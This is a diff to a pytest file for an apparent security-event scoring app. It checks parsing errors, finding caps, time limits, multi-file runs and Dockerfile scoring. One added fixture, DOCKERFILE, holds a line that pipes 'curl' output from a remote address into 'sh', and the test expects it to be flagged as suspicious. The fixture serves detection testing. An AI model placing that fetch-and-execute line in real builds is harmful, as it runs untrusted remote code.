@@ -106,15 +106,15 @@ def test_an_event_below_the_threshold_is_a_row_with_its_score(run: Run) -> None:
     [
         ("", "event: Field required"),
         (None, "event: Field required"),
-        ("nope", "neither JSON nor JSON lines: it is no JSON"),
-        ("{", "neither JSON nor JSON lines: it begins a value that never ends"),
-        ("{'a': open('x')}", "neither JSON nor JSON lines"),
+        ("nope", "event of line 1 is no JSON"),
+        ("{", "event of line 1 begins a value that never ends"),
+        ("{'a': open('x')}", "event of line 1 is no JSON"),
         ([BUILD, BUILD], "event holds 2 events; it is one JSON object"),
-        ("7", "event holds 1 events; it is one JSON object"),
-        ("[" * 100_000, "neither JSON nor JSON lines"),
-        ({"a": 1}, "event is not recognised as a Microsoft Defender event"),
+        ("7", "event is int, expected a mapping"),
+        ("[" * 100_000, "is nested too deeply"),
+        ({"a": 1}, "event is not recognised"),
         ({**BUILD, "ProcessCommandLine": 7}, "field 'command_line' is int, expected str"),
-        ({"Type": "SigninLogs"}, "event is of a table that nothing here scores"),
+        ({"Type": "SigninLogs"}, "event is of a kind that nothing here scores"),
     ],
 )
 def test_a_bad_event_is_a_failure_that_says_why(run: Run, event: Any, said: str) -> None:
@@ -130,7 +130,7 @@ def test_a_kind_is_taken_or_refused(run: Run) -> None:
     assert "kind is 'none'; it is one of auto, process" in failure(
         run("score_event", event=BUILD, kind="none")
     )
-    assert "event has no column that a file event has" in failure(
+    assert "has none of the fields of a file event" in failure(
         run("score_event", event={"a": 1}, kind="file")
     )
 
@@ -214,13 +214,17 @@ def test_score_events_takes_tables_of_sentinel_and_artifacts(run: Run) -> None:
 
 
 def test_findings_are_capped_the_highest_are_kept_and_all_are_counted(run: Run) -> None:
-    events = [EGRESS] * 20 + [BUILD] * 5 + [EGRESS] * 20
+    hosts = [{**EGRESS, "DeviceName": f"db-{at}"} for at in range(20)]
+    builds = [{**BUILD, "DeviceName": f"web-{at}"} for at in range(5)]
+    events = [*hosts, *builds, *hosts]
     result = run("score_events", events=events, max_findings=7, window_minutes=0)
 
     assert [row["score"] for row in result.get_data()] == [4] * 5 + [2] * 2
     assert [row["source_index"] for row in result.get_data()] == [20, 21, 22, 23, 24, 0, 1]
+    assert [row["count"] for row in result.get_data()] == [1] * 5 + [2] * 2
     assert counts(result, "findings", "returned", "chains") == [45, 7, 0]
     assert counts(run("score_events", events=events, min_score=3), "findings") == [5]
+    assert counts(run("score_events", events=events, min_score=0), "findings") == [45]
     assert counts(run("score_events", events=events, max_findings=0), "returned") == [0]
 
 
@@ -229,7 +233,7 @@ def test_what_cannot_be_read_or_scored_is_counted(run: Run) -> None:
     result = run("score_events", events=text)
 
     assert counts(result, "events", "findings", "skipped") == [5, 1, 4]
-    assert "4 could not be scored; the first: event is not recognised as a" in result.get_message()
+    assert "4 of 5 events not scored; the first: event is not recognised" in result.get_message()
 
 
 CSV = b"ImageFileName,CommandLine\ndocker,docker build /tmp/x\n7\n"  # of another product
@@ -242,15 +246,15 @@ FALCON = {"ImageFileName": "docker", "CommandLine": "docker build /tmp/x"}
 @pytest.mark.parametrize(
     ("events", "said"),
     [
-        (7, "none of 1 events can be scored; the first: an element is int"),
-        ([None, None], "none of 2 events can be scored; the first: an element is NoneType"),
-        (["docker build"], "none of 1 events can be scored; the first: an element is str"),
-        (CSV.decode(), "none of 2 events can be scored; the first: event is not recognised as a"),
-        ([FALCON, 7], "none of 2 events can be scored; the first: event is not recognised as a"),
-        (UNKNOWN, "none of 1 events can be scored; the first: event is of a table that nothing"),
-        ({**UNKNOWN, "Type": "", "ActionType": "LogonFailed"}, "is of a table that nothing"),
+        (7, "none of 1 events can be scored; the first: event is int"),
+        ([None, None], "none of 2 events can be scored; the first: event is NoneType"),
+        (["docker build"], "none of 1 events can be scored; the first: event is str"),
+        (CSV.decode(), "none of 2 events can be scored; the first: event is not recognised"),
+        ([FALCON, 7], "none of 2 events can be scored; the first: event is not recognised"),
+        (UNKNOWN, "none of 1 events can be scored; the first: event is of a kind that nothing"),
+        ({**UNKNOWN, "Type": "", "ActionType": "LogonFailed"}, "is of a kind that nothing"),
         ({**BUILD, "ProcessCommandLine": 7}, "field 'command_line' is int, expected str"),
-        ({"tables": [{}]}, "a table has no columns with names, or no rows"),
+        ({"columns": [{}], "rows": [[1]]}, "a table has a column without a name"),
     ],
     ids=["7", "nulls", "texts", "csv", "falcon", "table", "action", "wrong type", "bad table"],
 )
@@ -271,7 +275,7 @@ def test_a_file_of_something_else_is_a_failure(
 ) -> None:
     for action in ("scan_vault_file", "correlate"):
         said = failure(run(action, vault_id=stored(pack(data))))
-        assert "events can be scored; the first: " in said or "a zip archive" in said
+        assert "events can be scored; the first: " in said or "archive" in said
         assert "docker build" not in said
 
 
@@ -283,11 +287,11 @@ def test_a_portals_csv_is_scored(run: Run, stored: Stored, pack: Callable[[bytes
     assert counts(result, "events", "findings", "verdict") == [1, 1, "suspicious"]
 
 
-def test_where_there_is_nothing_the_verdict_is_none(run: Run, stored: Stored) -> None:
-    assert counts(run("score_events", events=[]), "events", "verdict") == [0, "none"]
+def test_where_there_is_nothing_the_verdict_is_unknown(run: Run, stored: Stored) -> None:
+    assert counts(run("score_events", events=[]), "events", "verdict") == [0, "unknown"]
     assert counts(run("scan_vault_file", vault_id=stored(b"\n")), "events", "verdict") == [
         0,
-        "none",
+        "unknown",
     ]
 
 
@@ -344,7 +348,7 @@ def test_an_event_that_is_nested_too_deeply_is_counted(
     )
 
     assert counts(result, "events", "findings", "skipped") == [3, 2, 1]
-    assert "the first: line 1: is nested too deeply" in result.get_message()
+    assert "is nested too deeply" in result.get_message()
 
 
 HIGH: Event = {
@@ -366,18 +370,6 @@ def test_the_top_device_is_that_of_the_highest_score_then_of_most_findings(run: 
     assert counts(run("score_events", events=two, window_minutes=0), "top_device") == ["noisy"]
 
 
-def test_the_top_device_is_known_however_many_hosts_there_are(
-    run: Run, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    from splunk_soar.src import scan
-
-    monkeypatch.setattr(scan, "_MOST_HOSTS", 20)
-    hosts = [{**EGRESS, "DeviceName": f"web-{at}"} for at in range(100)]
-    result = run("score_events", events=[HIGH, *hosts], window_minutes=0)
-
-    assert counts(result, "findings", "top_device") == [101, "db-01"]
-
-
 def test_the_top_device_is_that_of_the_highest_chain(run: Run) -> None:
     chain = [{**each, "DeviceName": "db-01"} for each in (BUILD, EGRESS, DEPLOY)]
     events = [{**BUILD, "DeviceName": "noisy"}] * 5 + chain
@@ -389,30 +381,37 @@ def test_the_top_device_is_that_of_the_highest_chain(run: Run) -> None:
     assert score > 4
 
 
-def test_what_repeats_crowds_out_no_other_host(run: Run) -> None:
+def test_fifty_places_hold_fifty_different_findings(run: Run) -> None:
     again = [
         {**BUILD, "Timestamp": f"2026-03-02T{at // 60:02}:{at % 60:02}:00Z"} for at in range(60)
     ]
-    other = {**EGRESS, "DeviceName": "db-01"}
-    for events in ([*again, other], [other, *again], [*again, other, *again]):
+    others = [{**EGRESS, "DeviceName": f"db-{at}"} for at in range(60)]
+    for events in ([*again, *others], [*others, *again], [*again, *others, *again]):
         result = run("score_events", events=events, max_findings=50, window_minutes=0)
 
         assert counts(result, "findings", "returned") == [len(events), 50]
-        rows = [(row["device"], row["score"]) for row in result.get_data()]
-        assert rows == [("web-prod-07", 4)] * 49 + [("db-01", 2)]
-    others = [{**EGRESS, "DeviceName": f"db-{at}"} for at in range(49)]
-    events = [*again, *(event for each in zip(others, again, strict=False) for event in each)]
-    result = run("score_events", events=events, max_findings=50, window_minutes=0)
-    assert len({row["device"] for row in result.get_data()}) == 50
+        rows = result.get_data()
+        assert len({row["device"] for row in rows}) == len({row["id"] for row in rows}) == 50
+        assert (rows[0]["device"], rows[0]["count"]) == ("web-prod-07", len(events) - 60)
 
 
-def test_what_does_not_repeat_is_kept_by_its_score(run: Run) -> None:
-    lines_of = [f"docker build --no-cache -t app:{at} /tmp/x" for at in range(9)]
-    events = [{**BUILD, "ProcessCommandLine": line} for line in (*lines_of, *lines_of)]
-    result = run("score_events", events=[EGRESS, *events, HIGH], max_findings=5)
+def test_a_run_that_takes_too_long_gives_what_it_has_and_says_so(
+    run: Run, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from t1612core.summary import survey
 
-    assert [row["score"] >= 6 for row in result.get_data()] == [True] + [False] * 4
-    assert [row["source_index"] for row in result.get_data()] == [19, 1, 2, 3, 4]
+    ticks = iter(range(10**9))
+    made = survey._Pass
+    monkeypatch.setattr(
+        survey, "_Pass", lambda *given: made(*given[:-1], lambda: float(next(ticks)))
+    )
+    result = run("score_events", {"max_seconds": 100}, events=[QUIET, BUILD] * 200)
+    assert counts(result, "complete", "verdict") == [False, "suspicious"]
+    assert "time was over after 60 events" in result.get_message()
+    assert "time was over after 60 events" in result.get_summary()["warning"]
+    result = run("score_events", {"max_seconds": 100}, events=[QUIET] * 400)
+    assert counts(result, "complete", "verdict") == [False, "unknown"]
+    assert "max_seconds is -1" in failure(run("score_events", {"max_seconds": -1}, events=ALL))
 
 
 def test_a_lone_alert_is_no_chain(run: Run, app: Any) -> None:
@@ -432,7 +431,7 @@ def test_a_lone_alert_is_no_chain(run: Run, app: Any) -> None:
         ({"events": ALL, "min_score": "x"}, "min_score: "),
         ({"events": ALL, "max_findings": 2.5}, "max_findings: "),
         ({"events": ALL, "window_minutes": -1}, "window_minutes is -1; it is 0 to 10,080"),
-        ({"events": "docker build ."}, "neither JSON nor JSON lines"),
+        ({"events": "docker build ."}, "is no JSON"),
     ],
 )
 def test_bad_parameters_are_a_failure_that_says_which(
@@ -506,7 +505,7 @@ def test_correlate(run: Run, stored: Stored) -> None:
         ({"events": ALL, "vault_id": "x"}, "give either events or a vault_id"),
         ({"events": ALL, "window_minutes": 0}, "window_minutes is 0; it is 1 or more"),
         ({"events": ALL, "max_chains": -1}, "max_chains is -1; it is 0 to 10,000"),
-        ({"events": "x"}, "neither JSON nor JSON lines"),
+        ({"events": "x"}, "is no JSON"),
     ],
 )
 def test_correlate_says_what_is_wrong(run: Run, params: dict[str, Any], said: str) -> None:
@@ -599,3 +598,60 @@ def test_an_old_event_revives_no_entry_that_has_ended(run: Run) -> None:
     result = run("score_events", {"allow_list": ended}, events=[BUILD], window_minutes=0)
 
     assert counts(result, "findings", "suppressed") == [1, 0]
+
+
+def test_several_files_are_one_run(run: Run, stored: Stored) -> None:
+    ids = [stored(lines(events).encode()) for events in ([BUILD], [EGRESS, {"a": 1}], [DEPLOY])]
+    for action in ("scan_vault_file", "correlate"):
+        result = run(action, vault_id=" , ".join(ids))
+        assert counts(result, "events", "skipped", "chains") == [4, 1, 1]
+    assert "there is no file 'x'" in failure(run("scan_vault_file", vault_id=f"{ids[0]}, x"))
+    assert "vault_id is empty" in failure(run("scan_vault_file", vault_id=" , "))
+
+
+DOCKERFILE = "FROM alpine\nRUN curl -s http://203.0.113.7/i.sh | sh\n"
+
+
+def test_score_dockerfile(run: Run, stored: Stored) -> None:
+    for params in ({"content": DOCKERFILE}, {"vault_id": stored(DOCKERFILE.encode())}):
+        result = run("score_dockerfile", **params)
+        assert counts(result, "matched", "verdict") == [True, "suspicious"]
+        assert {row["signal"] for row in result.get_data()} >= {"dockerfile.address_source"}
+        assert result.get_data()[0]["line"] == 2
+    quiet = run("score_dockerfile", content="FROM alpine\nCOPY . .\n")
+    assert counts(quiet, "score", "matched", "verdict") == [0, False, "none"]
+
+
+@pytest.mark.parametrize(
+    ("data", "said"),
+    [
+        (gzip.compress(DOCKERFILE.encode()), "it is packed with gzip"),
+        (b"FROM a\0", "it is no text"),
+        (b"FROM \xff\xfe", "it is no text in UTF-8"),
+        (b" \n", "the Dockerfile is empty"),
+        (b"FROM a\n" * 200_000, "the Dockerfile is longer than 1,048,576 bytes"),
+    ],
+    ids=["gzip", "binary", "latin", "empty", "long"],
+)
+def test_what_is_no_dockerfile_is_a_failure(
+    run: Run, stored: Stored, data: bytes, said: str
+) -> None:
+    assert said in failure(run("score_dockerfile", vault_id=stored(data)))
+
+
+def test_score_dockerfile_says_what_is_wrong(run: Run, stored: Stored) -> None:
+    for params in ({}, {"content": "FROM a", "vault_id": "x"}):
+        assert "give either content or a vault_id" in failure(run("score_dockerfile", **params))
+    two = f"{stored(b'FROM a')},{stored(b'FROM b')}"
+    assert "a Dockerfile is one file" in failure(run("score_dockerfile", vault_id=two))
+
+
+def test_a_schema_is_taken_or_refused(run: Run) -> None:
+    event = {"process": BUILD["ProcessCommandLine"], "parent_process_name": "bash"}
+    assert counts(run("score_events", {"schema_name": "splunk"}, events=[event]), "findings") == [1]
+    assert "is not recognised" in failure(
+        run("score_events", {"schema_name": "mde"}, events=[event])
+    )
+    assert "the asset's schema_name is 'x'; it is one of auto, " in failure(
+        run("score_events", {"schema_name": "x"}, events=[event])
+    )
